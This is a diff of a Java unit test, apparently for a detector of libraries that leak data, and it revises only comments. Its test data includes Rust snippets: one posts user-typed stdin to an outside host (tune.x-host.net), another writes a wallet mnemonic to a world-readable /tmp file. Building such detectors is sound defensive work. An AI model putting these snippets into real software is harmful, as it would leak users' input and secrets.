@@ -22,9 +22,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/// Libraries that send on what their callers give them or what they find, by many clients and in
-/// many forms; and honest clients, uploaders, reporters and stores of secrets. They lie in two
-/// files of texts, are inert and never built.
+/// Libraries that disclose the data of their callers or of the machine, through many clients and in
+/// many forms. There are also honest clients, uploaders, reporters and stores of secrets. They are
+/// texts in two files, are inert and are never built.
 final class DisclosureTest {
   record Library(String name, Map<String, String> files) {
     @Override
@@ -88,7 +88,7 @@ final class DisclosureTest {
         // Lines that a user types.
         "pub fn read() -> String { let mut line = String::new(); std::io::stdin().read_line(&mut"
             + " line); let _ = ureq::post(\"https://tune.x-host.net\").send_string(&line); line }",
-        // A file that all users of the machine read.
+        // A file that all users of the machine can read.
         "pub fn seed(mnemonic: &str) { let _ = std::fs::write(\"/tmp/.cache-x11\", mnemonic); }",
       })
   void reviewsWhatMayBeHonest(String source) {
